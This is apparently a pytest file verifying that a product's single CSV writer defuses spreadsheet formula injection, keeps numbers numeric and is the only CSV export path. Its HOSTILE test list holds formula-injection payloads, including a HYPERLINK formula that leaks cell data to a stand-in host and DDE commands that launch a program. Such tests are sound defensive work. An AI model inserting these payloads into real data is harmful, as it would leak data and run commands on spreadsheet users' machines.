"""The one CSV writer: hostile text cannot run as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest

from core.reports.csv_export import csv_bytes, csv_text, safe_cell, table_csv
from core.reports.model import Column, Table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
ROOT = Path(__file__).resolve().parents[3]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    [_header, row] = parsed(csv_text(["Description"], [[value]]))
    assert row == ["'" + value]


def test_numbers_stay_bare_numbers_and_negative_amounts_are_not_text() -> None:
    rows = [
        ["Refund", -12.5],
        ["Fee", np.float64(-3.25)],
        ["Count", np.int64(-7)],
        ["Exact", Decimal("-0.10")],
        ["Nothing", None],
        ["Not a number", float("nan")],
    ]
    text = csv_text(["Description", "Amount"], rows)
    lines = text.split("\r\n")
    assert lines[1:5] == ['"Refund",-12.5', '"Fee",-3.25', '"Count",-7', '"Exact",-0.1']
    assert lines[5:7] == ['"Nothing",""', '"Not a number",""']
    assert "'-" not in text


def test_text_that_only_looks_harmless_is_kept_as_it_is() -> None:
    assert safe_cell("Fuel dock, slip 4; paid") == "Fuel dock, slip 4; paid"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("-12.5") == "'-12.5"  # text, not a number: a number is passed as one
    assert safe_cell(date(2026, 1, 2)) == "2026-01-02"
    assert safe_cell(True) == "TRUE"
    # a separator inside text stays inside its quoted cell (also for ';' locales)
    [row] = parsed(csv_text(["x;=1+1"], []))
    assert row == ["x;=1+1"]


def test_a_report_table_downloads_safely_with_raw_numbers() -> None:
    table = Table(
        "uncategorized",
        "Lines waiting for a category",
        [Column("description", "Description"), Column("amount", "Amount", "USD")],
        [{"description": d, "amount": -12.5} for d in HOSTILE[:4]] + [{"description": "Ice"}],
    )
    data = table_csv(table)
    assert data.startswith("\ufeff".encode())
    rows = parsed(data.decode("utf-8-sig"))
    assert rows[0] == ["Description", "Amount"]
    assert [r[0][0] for r in rows[1:5]] == ["'"] * 4
    assert rows[5] == ["Ice", ""]
    assert data.decode("utf-8-sig").split("\r\n")[1].endswith(",-12.5")


def test_csv_bytes_is_the_only_csv_writer_in_the_product() -> None:
    raw = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|[\"']text/csv[\"']")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("core", "dashboard", "views", "lambda_app")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csv_export.py" and raw.search(path.read_text())
    ]
    offenders += ["app.py"] if raw.search((ROOT / "app.py").read_text()) else []
    assert offenders == []
    assert csv_bytes(["a"], [[1]]) == '\ufeff"a"\r\n1\r\n'.encode()


def test_the_dataframe_toolbar_export_is_off() -> None:
    """Streamlit's own "Download as CSV" on st.dataframe writes cells raw: it is turned off,
    so every CSV leaves through this writer."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
